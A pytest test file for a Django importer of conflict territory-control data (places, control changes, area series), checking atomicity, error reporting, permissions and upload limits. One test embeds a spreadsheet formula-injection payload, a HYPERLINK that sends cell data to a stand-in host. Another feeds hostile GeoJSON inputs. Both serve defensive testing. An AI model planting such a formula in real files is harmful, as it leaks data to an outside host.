"""Imports: all or nothing, idempotent, every problem named by row and column, never a 500."""

from __future__ import annotations

import csv
import io
import json
import os
from datetime import date, timedelta

import pytest
from django.conf import settings
from django.contrib.auth.models import Group
from django.contrib.gis.geos import Point
from django.core.files.uploadedfile import SimpleUploadedFile

from apps.history.models import Revision
from apps.ingest.importer import run_job
from apps.ingest.jobs import import_job_create
from apps.ingest.models import ImportJob
from apps.ingest.reference import load_dataset
from apps.territory import selectors
from apps.territory.models import ControlChange, ControlPeriod, Place, Theater
from apps.users.models import User
from apps.users.roles import EDITORS, REVIEWERS
from tests.factories import GroupFactory, SourceFactory, TheaterFactory

pytestmark = pytest.mark.django_db
CHANGE_HEADER = [
    "place",
    "date",
    "date_precision",
    "status",
    "controller",
    "challengers",
    "supported_by",
    "confidence",
    "summary",
    "sources",
]
PLACE_HEADER = [
    "slug",
    "name",
    "aliases",
    "kind",
    "country",
    "lat",
    "lon",
    "population",
    "importance",
    "theater",
    "area",
]


@pytest.fixture
def reference(db):
    """The whole reference dataset (slow: only for the test that re-imports it)."""
    load_dataset(settings.REFERENCE_DATA_DIR)
    return Theater.objects.get(slug="syria-iraq-2014-2019")


@pytest.fixture
def theater(db):
    """What the files below refer to, taken from the reference dataset."""
    theater = TheaterFactory(slug="syria-iraq-2014-2019", name="Syria and Iraq")
    GroupFactory(slug="islamic-state", name="Islamic State", aliases=["IS", "ISIS"])
    GroupFactory(slug="sdf", name="Syrian Democratic Forces / YPG", short_name="SDF")
    GroupFactory(slug="syrian-government", name="Syrian government forces")
    SourceFactory(key="houston-chronicle-2017-11-04", url="https://example.org/hc")
    return theater


def user(name: str, role: str) -> User:
    account = User.objects.create_user(name, password=f"{name}-password-9")
    account.groups.add(Group.objects.get(name=role))
    return account


@pytest.fixture
def reviewer(db):
    return user("reviewer", REVIEWERS)


@pytest.fixture
def editor(db):
    return user("editor", EDITORS)


def csv_bytes(header: list[str], rows: list[list]) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue().encode()


def run(content: bytes, by, *, filename="file.csv", theater=None, dry_run=False, publish=False):
    job = import_job_create(
        user=by,
        filename=filename,
        chunks=[content],
        theater=theater,
        dry_run=dry_run,
        publish=publish,
    )
    run_job(job)
    job.refresh_from_db()
    return job


def counts() -> tuple[int, int, int]:
    return Place.objects.count(), ControlChange.objects.count(), ControlPeriod.objects.count()


NEW_PLACES = [
    [
        "tall-abyad-east",
        "Tall Abyad East",
        "Tal Abyad Sharqi",
        "village",
        "SY",
        "36.70",
        "38.99",
        "1200",
        "2",
        "syria-iraq-2014-2019",
        "",
    ],
    [
        "",
        "Ayn Isa North",
        "Ain Issa North|ʿAyn ʿĪsā North",
        "village",
        "SY",
        "36.40",
        "38.87",
        "",
        "",
        "syria-iraq-2014-2019",
        "",
    ],
]


def new_place_changes() -> list[list]:
    return [
        [
            "tall-abyad-east",
            "2014-07-01",
            "day",
            "controlled",
            "islamic-state",
            "",
            "",
            "likely",
            "Taken with Tell Abyad.",
            "houston-chronicle-2017-11-04",
        ],
        [
            "Ain Issa North",
            "2015-06-20",
            "day",
            "controlled",
            "SDF",
            "",
            "",
            "confirmed",
            "",
            "houston-chronicle-2017-11-04",
        ],
        [
            "tall-abyad-east",
            "2015-06-16",
            "day",
            "contested",
            "islamic-state",
            "sdf",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ],
    ]


def test_the_reference_changes_re_imported_change_nothing(reference, reviewer):
    before = counts()
    content = (settings.REFERENCE_DATA_DIR / "changes.csv").read_bytes()
    job = run(content, reviewer, publish=True, theater=reference)
    assert job.status == "succeeded", job.errors
    rows = sum(1 for _ in csv.DictReader(io.StringIO(content.decode())))
    assert job.counts == {"changes": {"unchanged": rows}}
    assert counts() == before


def test_a_valid_file_creates_places_and_changes_and_re_importing_changes_nothing(
    theater, reviewer
):
    places = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer, theater=theater)
    assert places.status == "succeeded", places.errors
    assert places.counts == {"places": {"created": 2}}
    ain = Place.objects.get(name="Ayn Isa North")  # found again by any spelling below
    assert ain.slug == "ayn-isa-north"  # named without a slug: one from its name

    changes = run(
        csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater, publish=True
    )
    assert changes.status == "succeeded", changes.errors
    assert changes.counts == {"changes": {"created": 3}}
    east = Place.objects.get(slug="tall-abyad-east")
    state = selectors.place_state_on(place=east, on=date(2015, 7, 1))
    assert state.status == "contested" and state.controller.slug == "islamic-state"
    assert selectors.place_state_on(place=ain, on=date(2016, 1, 1)).controller.slug == "sdf"
    revisions = Revision.objects.filter(via="import", content_type__model="controlchange")
    assert revisions.count() == 3 and {r.user for r in revisions} == {reviewer}

    before = counts()
    again = run(
        csv_bytes(CHANGE_HEADER, new_place_changes()), reviewer, theater=theater, publish=True
    )
    assert again.counts == {"changes": {"unchanged": 3}} and counts() == before
    places_again = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer, theater=theater)
    assert places_again.counts == {"places": {"unchanged": 2}}


def test_one_bad_row_among_1000_writes_nothing_and_names_the_row(theater, reviewer):
    place_job = run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    assert place_job.status == "succeeded"
    groups = ["islamic-state", "sdf", "syrian-government"]  # any row left out changes nothing
    rows = [
        [
            "tall-abyad-east",
            (date(2015, 1, 1) + timedelta(days=i)).isoformat(),
            "day",
            "controlled",
            groups[i % 3],
            "",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ]
        for i in range(1000)
    ]
    rows[516][1] = (date.today() + timedelta(days=3)).isoformat()  # line 518 of the file
    before = counts()
    job = run(csv_bytes(CHANGE_HEADER, rows), reviewer, publish=True)
    assert job.status == "failed"
    assert counts() == before
    assert {e["row"] for e in job.errors} == {518}, job.errors
    future = [e for e in job.errors if e["column"] == "date"]
    assert "future" in future[0]["message"] and "row 518" in job.summary

    rows[516][1] = (date(2015, 1, 1) + timedelta(days=516)).isoformat()
    job = run(csv_bytes(CHANGE_HEADER, rows), reviewer, publish=True)
    assert job.status == "succeeded", job.errors[:3]
    assert job.counts == {"changes": {"created": 1000}}


@pytest.mark.parametrize(
    ("content", "filename", "words", "row"),
    [
        (b'place,date,status\nmosul,"2015-01-01,controlled\n', "f.csv", "malformed csv", 2),
        (
            "place,date,status\nmosul,2015-01-01,contrôlé\n".encode("latin-1"),
            "f.csv",
            "not utf-8",
            2,
        ),
        (b"place,status\nmosul,controlled\n", "f.csv", "cannot tell", 1),
        (b"place,date,controller\nmosul,2015-01-01,sdf\n", "f.csv", "cannot tell", 1),
        (
            b"place,date,status,colour\nmosul,2015-01-01,controlled,red\n",
            "f.csv",
            "unknown column",
            1,
        ),
        (b"slug,name,kind,lat,lon\nx,X,town,35,40\n", "f.csv", "missing column(s): country", 1),
        (b"", "f.csv", "empty", None),
        (b"place,date,status\n", "f.csv", "no rows", None),
        (b'{"type": "FeatureCollection", "features": [', "f.geojson", "not valid json", 1),
        (b'{"type": "Point", "coordinates": [1, 2]}', "f.geojson", "featurecollection", None),
    ],
)
def test_unreadable_files_get_a_clear_report(theater, reviewer, content, filename, words, row):
    before = counts()
    job = run(content, reviewer, filename=filename)
    assert job.status == "failed"
    assert words in job.errors[0]["message"].lower(), job.errors
    assert job.errors[0]["row"] == row
    assert counts() == before


def test_a_10_mb_file_of_noise_is_refused_clearly(theater, reviewer):
    job = run(os.urandom(10 * 1024 * 1024), reviewer)
    assert job.status == "failed" and "not utf-8" in job.errors[0]["message"].lower()


def test_a_geojson_with_an_invalid_geometry_names_the_feature(theater, reviewer):
    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
            "properties": {
                "slug": "good-one",
                "name": "Good One",
                "kind": "village",
                "country": "SY",
            },
        },
        {
            "type": "Feature",
            "geometry": {"type": "Polygon", "coordinates": [[[1, 2], [3, 4]]]},
            "properties": {
                "slug": "bad-one",
                "name": "Bad One",
                "kind": "village",
                "country": "SY",
                "lat": 36.5,
                "lon": 38.8,
            },
        },
    ]
    content = json.dumps({"type": "FeatureCollection", "features": features}).encode()
    before = counts()
    job = run(content, reviewer, filename="places.geojson", theater=theater)
    assert job.status == "failed" and counts() == before
    assert [(e["row"], e["column"]) for e in job.errors] == [(2, "geometry")], job.errors

    job = run(
        json.dumps({"type": "FeatureCollection", "features": features[:1]}).encode(),
        reviewer,
        filename="places.geojson",
        theater=theater,
    )
    assert job.status == "succeeded", job.errors
    assert Place.objects.get(slug="good-one").location.x == pytest.approx(38.9)


def test_a_geojson_of_places_and_changes(theater, reviewer):
    features = [
        {
            "type": "Feature",
            "geometry": {"type": "Point", "coordinates": [38.9, 36.6]},
            "properties": {
                "slug": "both-kinds",
                "name": "Both Kinds",
                "kind": "village",
                "country": "SY",
            },
        },
        {
            "type": "Feature",
            "geometry": None,
            "properties": {
                "place": "both-kinds",
                "date": "2016-01-01",
                "status": "controlled",
                "controller": "sdf",
                "sources": ["houston-chronicle-2017-11-04"],
            },
        },
    ]
    job = run(
        json.dumps({"type": "FeatureCollection", "features": features}).encode(),
        reviewer,
        filename="mixed.geojson",
        theater=theater,
    )
    assert job.counts == {"places": {"created": 1}, "changes": {"created": 1}}, job.errors
    assert ControlChange.objects.get(place__slug="both-kinds").review_state == "draft"


def test_matching_errors_are_errors_not_guesses(theater, reviewer):
    run(
        csv_bytes(
            PLACE_HEADER,
            [
                [
                    "twin-a",
                    "Twin",
                    "",
                    "village",
                    "SY",
                    "36.1",
                    "38.1",
                    "",
                    "",
                    "syria-iraq-2014-2019",
                    "",
                ],
                [
                    "twin-b",
                    "Twin",
                    "",
                    "village",
                    "SY",
                    "36.2",
                    "38.2",
                    "",
                    "",
                    "syria-iraq-2014-2019",
                    "",
                ],
            ],
        ),
        reviewer,
        theater=theater,
    )
    rows = [
        ["Twin", "2015-01-01", "day", "controlled", "sdf", "", "", "", "", ""],
        ["Nowhere", "2015-01-01", "day", "controlled", "sdf", "", "", "", "", ""],
        ["twin-a", "2015-01-01", "day", "controlled", "the avengers", "", "", "", "", ""],
        ["twin-a", "2015-02-01", "day", "controlled", "sdf", "", "", "", "", "no-such-source"],
        ["twin-a", "2015-03-15", "month", "controlled", "islamic-state", "", "", "", "", ""],
    ]
    job = run(csv_bytes(CHANGE_HEADER, rows), reviewer, theater=theater)
    found = {(e["row"], e["column"]): e["message"] for e in job.errors}
    assert "matches 2 places" in found[(2, "place")] and "twin-a" in found[(2, "place")]
    assert "Unknown place 'Nowhere'" in found[(3, "place")]
    assert "Unknown group" in found[(4, "controller")]
    assert "Unknown source" in found[(5, "sources")]
    assert "first day of the month" in found[(6, "date")]
    assert not ControlChange.objects.filter(place__slug="twin-a").exists()


def test_a_dry_run_reports_and_writes_nothing(theater, reviewer):
    before = counts()
    job = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer, theater=theater, dry_run=True)
    assert job.status == "succeeded" and job.counts == {"places": {"created": 2}}
    assert "nothing written" in job.summary.lower()
    assert counts() == before


def test_an_editor_imports_drafts_but_cannot_publish(theater, editor):
    run(csv_bytes(PLACE_HEADER, NEW_PLACES), editor, theater=theater)
    job = run(csv_bytes(CHANGE_HEADER, new_place_changes()), editor, theater=theater)
    assert job.status == "succeeded", job.errors
    assert set(
        ControlChange.objects.filter(place__slug="tall-abyad-east").values_list(
            "review_state", flat=True
        )
    ) == {"draft"}
    row = [
        "tall-abyad-east",
        "2016-02-01",
        "day",
        "controlled",
        "sdf",
        "",
        "",
        "",
        "",
        "",
        "published",
    ]
    published = run(csv_bytes([*CHANGE_HEADER, "review_state"], [row]), editor)
    assert published.status == "failed"
    assert published.errors[0]["column"] == "review_state"


# --- Through the API -------------------------------------------------------------------------


def upload(client, content: bytes, name="changes.csv", **fields):
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    return client.post("/api/v1/imports/", {"file": file, **fields}, format="multipart")


def test_api_import_is_202_then_reports(theater, reviewer, django_capture_on_commit_callbacks):
    from tests.api.conftest import client_for

    client = client_for(reviewer)
    with django_capture_on_commit_callbacks(execute=True):
        response = upload(client, csv_bytes(PLACE_HEADER, NEW_PLACES), theater=theater.slug)
    assert response.status_code == 202, response.content
    body = response.json()
    assert response["Location"] == body["url"]
    report = client.get(body["url"]).json()
    assert report["status"] == "succeeded" and report["counts"] == {"places": {"created": 2}}

    with django_capture_on_commit_callbacks(execute=True):
        bad = upload(client, b"place,date,status\nmosul,2015-13-01,controlled\n")
    report = client.get(bad.json()["url"]).json()
    assert report["status"] == "failed"
    message = "'2015-13-01' is not a date (YYYY-MM-DD)."
    assert report["errors"] == [{"row": 2, "column": "date", "message": message}]


def test_api_import_permissions_and_limits(theater, editor, settings):
    from rest_framework.test import APIClient

    from tests.api.conftest import client_for

    anonymous = APIClient(HTTP_HOST="127.0.0.1")
    assert upload(anonymous, b"x").status_code == 401
    client = client_for(editor)
    refused = upload(client, csv_bytes(CHANGE_HEADER, []), publish="true")
    assert refused.status_code == 403 and "reviewer" in refused.json()["detail"]
    settings.IMPORT_MAX_BYTES = 1000
    too_big = upload(client, b"x" * 5000)
    assert too_big.status_code == 400 and "the limit is 1,000" in json.dumps(too_big.json())
    other = client_for(user("someone", EDITORS))
    job = import_job_create(user=editor, filename="f.csv", chunks=[b"x"])
    assert other.get(f"/api/v1/imports/{job.pk}/").status_code == 404


# --- Found in review ---------------------------------------------------------------------------


def test_re_importing_an_export_keeps_it_published(reference, reviewer, editor):
    from apps.territory import csv_tables

    mosul = ControlChange.objects.filter(place__slug="mosul")
    body = b"".join(csv_tables.changes_csv_response(mosul, "mosul").streaming_content)
    before = counts()
    assert run(body, reviewer).counts == {"changes": {"unchanged": mosul.count()}}
    assert run(body, editor).counts == {"changes": {"unchanged": mosul.count()}}
    assert counts() == before and set(mosul.values_list("review_state", flat=True)) == {"published"}


def test_a_keyless_source_round_trips_by_its_export_name(theater, reviewer):
    from apps.territory import csv_tables
    from tests.factories import ChangeFactory, PlaceFactory

    keyless = SourceFactory(key=None, url="")
    change = ChangeFactory(place=PlaceFactory(theater=theater), sources=[keyless])
    one = ControlChange.objects.filter(pk=change.pk)
    body = b"".join(csv_tables.changes_csv_response(one, "c").streaming_content)
    assert f"source-{keyless.pk}".encode() in body
    assert run(body, reviewer).counts == {"changes": {"unchanged": 1}}


def test_columns_a_file_lacks_keep_the_stored_values(theater, reviewer):
    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    job = run(
        b"slug,name,kind,country,lat,lon\ntall-abyad-east,Tall Abyad East,town,SY,36.70,38.99\n",
        reviewer,
    )
    assert job.counts == {"places": {"updated": 1}}, job.errors  # the kind only
    place = Place.objects.get(slug="tall-abyad-east")
    assert (place.kind, place.population, place.importance, place.aliases) == (
        "town",
        1200,
        2,
        ["Tal Abyad Sharqi"],
    )


def test_a_name_is_matched_in_the_row_s_theater(theater, reviewer):
    other = TheaterFactory(slug="other-theater")
    row = ["", "Tall Abyad East", "", "village", "SY", "36.70", "38.99", "", "", "", ""]
    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    job = run(csv_bytes(PLACE_HEADER, [[*row[:9], "other-theater", ""]]), reviewer)
    assert job.counts == {"places": {"created": 1}}, job.errors  # a new place over there
    assert Place.objects.get(slug="tall-abyad-east").theater == theater
    assert Place.objects.filter(name="Tall Abyad East", theater=other).count() == 1


def test_an_edit_is_checked_against_the_file_s_new_rows_too(theater, reviewer):
    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    first = [
        [
            "tall-abyad-east",
            "2015-07-10",
            "day",
            "controlled",
            "islamic-state",
            "",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ]
    ]
    assert run(csv_bytes(CHANGE_HEADER, first), reviewer, publish=True).status == "succeeded"
    both = [
        [
            "tall-abyad-east",
            "2015-01-01",
            "day",
            "controlled",
            "sdf",
            "",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ],
        [
            "tall-abyad-east",
            "2015-07-10",
            "day",
            "controlled",
            "sdf",
            "",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ],
    ]
    job = run(csv_bytes(CHANGE_HEADER, both), reviewer, publish=True)
    assert job.status == "failed" and "changes nothing" in job.errors[0]["message"], job.errors
    assert "#None" not in job.errors[0]["message"]


def test_groups_whose_names_fold_alike_are_not_ambiguous(theater, reviewer):
    GroupFactory(slug="turkey", name="Turkish Armed Forces", aliases=["Turkey", "turkey"])
    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    row = ["tall-abyad-east", "2016-01-01", "day", "controlled", "Turkey", "", "", "", "", ""]
    job = run(csv_bytes(CHANGE_HEADER, [row]), reviewer)
    assert job.status == "succeeded", job.errors


@pytest.mark.parametrize(
    "content",
    [
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": '
        + b"9" * 5000
        + b"}}]}",
        b"[" * 100_000,
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": null, '
        b'"properties": {"name\\u0000": "x", "slug": "a\\u0000b"}}]}',
        b'{"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": null, '
        b'"properties": {"name": {"en": "x"}}}]}',
    ],
)
def test_hostile_geojson_gets_a_report_not_a_crash(theater, reviewer, content):
    before = counts()
    job = run(content, reviewer, filename="x.geojson", theater=theater)
    assert job.status == "failed" and job.errors and job.finished_at is not None
    assert "\x00" not in json.dumps(job.errors)
    assert counts() == before


# --- Formulas in CSV cells (exports quote them; imports take the quote off) --------------------


def test_cells_quoted_against_formulas_are_imported_as_their_text(theater, reviewer):
    formula = '=HYPERLINK("http://evil.example/?d="&A2,"x")'
    places = [
        [
            "formula-town",
            "Formula Town",
            "'=1+1|'-5",
            "village",
            "SY",
            "36.70",
            "38.99",
            "",
            "",
            "syria-iraq-2014-2019",
            "",
        ]
    ]
    assert run(csv_bytes(PLACE_HEADER, places), reviewer).status == "succeeded"
    place = Place.objects.get(slug="formula-town")
    assert place.aliases == ["=1+1", "'-5"]  # the cell's text, split at |
    aliases = [
        [
            "formula-town",
            "Formula Town",
            "'=1+1",
            "village",
            "SY",
            "36.70",
            "38.99",
            "",
            "",
            "syria-iraq-2014-2019",
            "",
        ]
    ]
    assert run(csv_bytes(PLACE_HEADER, aliases), reviewer).status == "succeeded"
    assert Place.objects.get(slug="formula-town").aliases == ["=1+1"]
    numbers = [
        [
            "formula-town",
            "Formula Town",
            "'-5",
            "village",
            "SY",
            "36.70",
            "38.99",
            "",
            "",
            "syria-iraq-2014-2019",
            "",
        ]
    ]
    assert run(csv_bytes(PLACE_HEADER, numbers), reviewer).status == "succeeded"
    assert Place.objects.get(slug="formula-town").aliases == ["'-5"]  # numbers are not quoted

    row = [
        "formula-town",
        "2016-01-01",
        "day",
        "controlled",
        "sdf",
        "",
        "",
        "",
        f"'{formula}",
        "houston-chronicle-2017-11-04",
    ]
    job = run(csv_bytes(CHANGE_HEADER, [row]), reviewer)
    assert job.status == "succeeded", job.errors
    assert ControlChange.objects.get(place=place).summary == formula


def test_an_exported_formula_round_trips_unchanged(theater, reviewer):
    from apps.territory import csv_tables
    from tests.factories import ChangeFactory, PlaceFactory

    change = ChangeFactory(place=PlaceFactory(theater=theater), summary="=1+1 (not a formula)")
    response = csv_tables.changes_csv_response(ControlChange.objects.filter(pk=change.pk), "c")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"'=1+1" in body
    assert run(body, reviewer).counts == {"changes": {"unchanged": 1}}


def test_load_reference_takes_the_formula_quote_off(tmp_path):
    from apps.ingest.reference import load_dataset

    files = {
        "theaters": "slug,name,start,min_lon,min_lat,max_lon,max_lat\nt,T,2014-01-01,35,28,45,38\n",
        "groups": "slug,name,aliases\ng,G,'=1+1|'-5\n",
        "sources": "key,title\ns,'@Source\n",
        "places": "slug,name,aliases,kind,country,lat,lon,theater\np,P,'=1+1,town,SY,33,40,t\n",
        "changes": "place,date,status,controller,sources,summary\n"
        "p,2015-01-01,controlled,g,s,'+ taken\n",
    }
    for name, text in files.items():
        (tmp_path / f"{name}.csv").write_text(text, encoding="utf-8")
    load_dataset(tmp_path)
    assert Place.objects.get(slug="p").aliases == ["=1+1"]
    assert ControlChange.objects.get(place__slug="p").summary == "+ taken"
    from apps.territory.models import ArmedGroup, Source

    assert ArmedGroup.objects.get(slug="g").aliases == ["=1+1", "'-5"]
    assert Source.objects.get(key="s").title == "@Source"


# --- Checks grow with the rows, not their square -------------------------------------------------


def test_each_row_is_checked_against_its_neighbours_only(theater, reviewer, monkeypatch):
    from apps.territory import rules

    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    groups = ["islamic-state", "sdf"]
    rows = [
        [
            "tall-abyad-east",
            (date(2000, 1, 1) + timedelta(days=i)).isoformat(),
            "day",
            "controlled",
            groups[(i // 2) % 2],
            "",
            "",
            "",
            "",
            "houston-chronicle-2017-11-04",
        ]
        for i in range(600)
    ]
    assert run(csv_bytes(CHANGE_HEADER, rows[::2]), reviewer, publish=True).status == "succeeded"
    sizes = []
    check = rules.check_change

    def counted(proposal, **options):
        sizes.append(len(options.get("others") or ()))
        return check(proposal, **options)

    monkeypatch.setattr(rules, "check_change", counted)
    job = run(csv_bytes(CHANGE_HEADER, rows[1::2]), reviewer, publish=True, dry_run=True)
    assert job.status == "failed"  # each odd day repeats the day before it: changes nothing
    assert {e["row"] for e in job.errors} == set(range(2, 302))
    assert len(sizes) == 300 and max(sizes) <= 3, max(sizes)


def test_neighbour_rules_across_stored_and_new_rows(theater, reviewer):
    """The previous published change for a published row, the previous of any state for a
    draft, a clash on one day, a back-dated row between stored ones."""
    run(csv_bytes(PLACE_HEADER, NEW_PLACES[:1]), reviewer, theater=theater)
    source = "houston-chronicle-2017-11-04"

    def row(day, group, state=""):
        return ["tall-abyad-east", day, "day", "controlled", group, "", "", "", "", source, state]

    header = [*CHANGE_HEADER, "review_state"]
    stored = [
        row("2015-01-01", "islamic-state", "published"),
        row("2015-03-01", "sdf", "draft"),
        row("2015-06-01", "sdf", "published"),
    ]
    assert run(csv_bytes(header, stored), reviewer).status == "succeeded"
    # published on 2015-02-01 like the published one before it (the draft in between is
    # later): changes nothing
    job = run(csv_bytes(header, [row("2015-02-01", "islamic-state", "published")]), reviewer)
    assert (
        "changes nothing" in job.errors[0]["message"] and "2015-01-01" in job.errors[0]["message"]
    )
    # a published row after the draft compares with the published change before it
    job = run(
        csv_bytes(header, [row("2015-04-01", "islamic-state", "published")]), reviewer, dry_run=True
    )
    assert "changes nothing" in job.errors[0]["message"], job.errors
    # a draft row after the draft compares with the draft: sdf holds, islamic-state is new
    job = run(
        csv_bytes(header, [row("2015-04-01", "islamic-state", "draft")]), reviewer, dry_run=True
    )
    assert job.status == "succeeded", job.errors
    job = run(csv_bytes(header, [row("2015-04-01", "sdf", "draft")]), reviewer, dry_run=True)
    assert "the draft change #" in job.errors[0]["message"], job.errors
    # two rows on one day
    job = run(
        csv_bytes(
            header, [row("2016-01-01", "islamic-state"), row("2016-01-01", "syrian-government")]
        ),
        reviewer,
    )
    assert [e["row"] for e in job.errors] == [3]
    assert "another row of this import" in job.errors[0]["message"]
    # a new row on a stored day is an edit of that change
    job = run(csv_bytes(header, [row("2015-03-01", "syrian-government", "draft")]), reviewer)
    assert job.counts == {"changes": {"updated": 1}}, job.errors


# --- Uploads: files, limits ----------------------------------------------------------------------


def test_an_upload_is_kept_as_a_file_and_purged(theater, reviewer, settings, tmp_path):
    from apps.ingest import jobs
    from apps.ingest.tasks import purge_import_files

    settings.IMPORT_ROOT = str(tmp_path / "fresh" / "imports")  # made when needed
    content = csv_bytes(PLACE_HEADER, NEW_PLACES)
    upload = SimpleUploadedFile("places.csv", content, content_type="text/csv")
    job = jobs.import_job_start(user=reviewer, upload=upload, theater=theater)
    stored = tmp_path / "fresh" / "imports" / job.file
    assert stored.read_bytes() == content and job.size == len(content)
    run_job(job)
    assert job.status == "succeeded", job.errors
    orphan = tmp_path / "fresh" / "imports" / "left-by-a-rolled-back-upload.csv"
    orphan.write_bytes(b"x")
    os.utime(orphan, (0, 0))
    assert purge_import_files(days=30) == 1  # the orphan; the job's file is recent
    assert stored.exists() and not orphan.exists()
    ImportJob.objects.filter(pk=job.pk).update(finished_at=job.finished_at - timedelta(days=31))
    assert purge_import_files(days=30) == 1
    job.refresh_from_db()
    assert job.file == "" and not stored.exists() and job.summary  # the report stays
    job.status = "pending"
    run_job(job)
    assert job.status == "failed" and "no longer stored" in job.errors[0]["message"]


def test_an_upload_is_copied_in_chunks_not_read_whole(reviewer, settings, tmp_path):
    import tracemalloc

    from django.core.files.uploadedfile import TemporaryUploadedFile

    from apps.ingest import jobs

    settings.IMPORT_ROOT = str(tmp_path)
    size = 20 * 1024 * 1024
    upload = TemporaryUploadedFile("big.csv", "text/csv", size, "utf-8")
    for _ in range(size // (1024 * 1024)):
        upload.write(b"x" * (1024 * 1024))
    upload.seek(0)
    tracemalloc.start()
    job = jobs.import_job_start(user=reviewer, upload=upload)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert job.size == size and (tmp_path / job.file).stat().st_size == size
    assert peak < 5 * 1024 * 1024, f"{peak:,} bytes held to store a {size:,}-byte upload"


def test_a_big_geojson_is_refused_clearly(theater, reviewer, settings):
    from tests.api.conftest import client_for

    settings.IMPORT_MAX_GEOJSON_BYTES = 100
    content = json.dumps({"type": "FeatureCollection", "features": [{}] * 50}).encode()
    too_big = upload(client_for(reviewer), content, name="places.geojson")
    assert too_big.status_code == 400 and "read whole" in json.dumps(too_big.json())
    job = run(content, reviewer, filename="places.geojson")
    assert job.status == "failed" and "read whole" in job.errors[0]["message"]


def test_pending_imports_per_user_are_limited(theater, editor, reviewer, settings):
    from tests.api.conftest import client_for

    settings.IMPORT_MAX_PENDING_PER_USER = 2
    client = client_for(editor)
    body = csv_bytes(PLACE_HEADER, NEW_PLACES)
    # no commit in this test: the uploads stay pending
    assert upload(client, body, theater=theater.slug).status_code == 202
    assert upload(client, body, theater=theater.slug).status_code == 202
    refused = upload(client, body, theater=theater.slug)
    assert refused.status_code == 429, refused.content
    assert "the limit is 2" in refused.json()["detail"]
    assert ImportJob.objects.filter(user=editor).count() == 2
    assert upload(client_for(reviewer), body, theater=theater.slug).status_code == 202  # theirs
    ImportJob.objects.filter(user=editor).update(status="succeeded")  # finished: not counted
    assert upload(client, body, theater=theater.slug).status_code == 202


def test_new_places_are_written_at_once_with_a_revision_each(theater, reviewer):
    job = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer)
    assert job.counts == {"places": {"created": 2}}, job.errors
    created = Place.objects.filter(name__in=["Tall Abyad East", "Ayn Isa North"])
    assert sorted(created.values_list("slug", flat=True)) == ["ayn-isa-north", "tall-abyad-east"]
    assert Place.objects.get(slug="ayn-isa-north").aliases == ["Ain Issa North", "ʿAyn ʿĪsā North"]
    of_places = Revision.objects.filter(content_type__model="place", action="created")
    assert sorted(of_places.values_list("object_id", flat=True)) == sorted(p.pk for p in created)


def test_a_slug_taken_between_the_checks_and_the_write_names_its_row(
    theater, reviewer, monkeypatch
):
    from apps.ingest import importer
    from apps.territory import services

    write = importer.PlaceImport.write

    def another_writer_first(self):  # what a concurrent import could do meanwhile
        services.place_create(
            theater=theater,
            name="Someone else's",
            slug="ayn-isa-north",
            kind="village",
            location=Point(38.8, 36.3, srid=4326),
            country="SY",
        )
        write(self)

    monkeypatch.setattr(importer.PlaceImport, "write", another_writer_first)
    job = run(csv_bytes(PLACE_HEADER, NEW_PLACES), reviewer)
    assert job.status == "failed"
    assert [(e["row"], e["column"]) for e in job.errors] == [(3, "slug")], job.errors
    assert not Place.objects.filter(name__in=["Tall Abyad East", "Ayn Isa North"]).exists()


def test_an_area_series_uploads_as_a_job_and_reports_by_file(
    theater, reviewer, editor, django_capture_on_commit_callbacks
):
    import zipfile

    from rest_framework.test import APIClient

    from apps.areas.models import AreaVersion
    from tests.areas.fronts import document, ground_on
    from tests.factories import GroupFactory

    GroupFactory(slug="russia", name="Russian Armed Forces")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as z:
        for k in (0, 1, 2):
            z.writestr(
                f"deepstatemap_data_2024070{8 + k}.geojson", json.dumps(document(ground_on(k)))
            )
        z.writestr("deepstatemap_data_20240711.geojson", "{broken")

    def post(user, content, **fields):
        client = APIClient(HTTP_HOST="127.0.0.1")
        client.force_authenticate(user)
        upload = SimpleUploadedFile("series.zip", content, content_type="application/zip")
        form = {"file": upload, "theater": theater.slug, "layer": "front", **fields}
        with django_capture_on_commit_callbacks(execute=True):  # the job runs on commit
            return client.post("/api/v1/area-imports/", form, format="multipart")

    assert post(editor, archive.getvalue(), group="russia").status_code == 403  # reviewers only
    failed = post(reviewer, archive.getvalue(), group="russia", assessor="DSM")
    assert failed.status_code == 202 and failed.json()["kind"] == "areas"
    job = ImportJob.objects.get(pk=failed.json()["id"])
    assert job.status == "failed" and not AreaVersion.objects.exists()
    assert [e["column"] for e in job.errors] == ["deepstatemap_data_20240711.geojson"]
    good = io.BytesIO()
    with zipfile.ZipFile(archive) as source, zipfile.ZipFile(good, "w") as z:
        for name in source.namelist()[:3]:
            z.writestr(name, source.read(name))
    done_id = post(reviewer, good.getvalue(), group="russia", assessor="DSM").json()["id"]
    done = ImportJob.objects.get(pk=done_id)
    assert done.status == "succeeded", done.errors
    assert done.counts["days"] == {"added": 3, "unchanged": 0, "replaced": 0, "refused": 0}
    assert AreaVersion.objects.filter(layer__slug="front").count() == 3
